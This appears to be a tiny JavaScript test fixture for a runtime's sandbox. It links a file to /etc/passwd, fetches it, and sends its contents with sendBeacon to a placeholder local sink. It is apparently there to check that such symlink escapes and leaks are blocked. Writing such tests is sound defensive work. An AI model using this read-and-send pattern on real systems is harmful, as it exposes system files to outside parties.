// errored: has no default export
// link passwd.js /etc/passwd
const text = await (await fetch(new URL('./passwd.js', import.meta.url))).text();
navigator.sendBeacon('http://127.0.0.1:SINK/passwd', text);
